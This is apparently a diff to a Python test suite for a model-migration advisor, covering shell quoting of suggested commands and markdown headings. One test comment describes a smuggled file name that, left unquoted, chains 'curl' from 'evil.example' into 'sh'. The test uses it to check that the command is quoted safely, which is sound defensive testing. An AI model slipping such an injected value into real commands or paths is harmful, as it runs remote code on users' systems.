@@ -131,8 +131,14 @@ def hostile(migration: Recommendation) -> Recommendation:
 class TestSuggestedCommands:
     """A command advisor suggests is built from its words, each quoted for the shell."""
 
-    def test_a_training_file_with_shell_syntax_is_one_quoted_word(self, catalog) -> None:
-        scenario = load_scenario(str(EXAMPLES / "migration" / "scenario.toml"))
+    def test_a_training_file_with_shell_syntax_is_one_quoted_word(self, catalog, tmp_path: Path) -> None:
+        # the scenario names a file that exists (a folder `x.jsonl; curl http:` holding `evil.example | sh #`):
+        # a missing training file is refused when the scenario is read
+        training = tmp_path / TRAINING_FILE
+        training.parent.mkdir()
+        shutil.copy(INVOICE / "train.jsonl", training)
+        shutil.copy(EXAMPLES / "migration" / "scenario.toml", tmp_path / "scenario.toml")
+        scenario = load_scenario(str(tmp_path / "scenario.toml"))
         data = scenario.scenario.data.model_copy(update={"training_file": TRAINING_FILE})
         loaded = scenario.model_copy(update={"scenario": scenario.scenario.model_copy(update={"data": data})})
         rec = recommend(loaded, catalog, TODAY)
@@ -270,7 +276,8 @@ class TestMarkdown:
     def test_any_name_is_the_heading_and_nothing_else(self, migration: Recommendation, name: str) -> None:
         document = to_markdown(migration.model_copy(update={"name": name}))
         assert structure(document) == structure(to_markdown(migration))
-        assert heading_text(document) == [f"Recommendation: {shown(name)}".rstrip()]
+        # a name's own leading or trailing spaces are kept (as entities): compared as a reader sees them
+        assert [h.rstrip() for h in heading_text(document)] == [f"Recommendation: {shown(name)}".rstrip()]
 
     @settings(max_examples=150, deadline=None)
     @given(text=st.text(st.characters(blacklist_categories=("Cs",)), max_size=40))
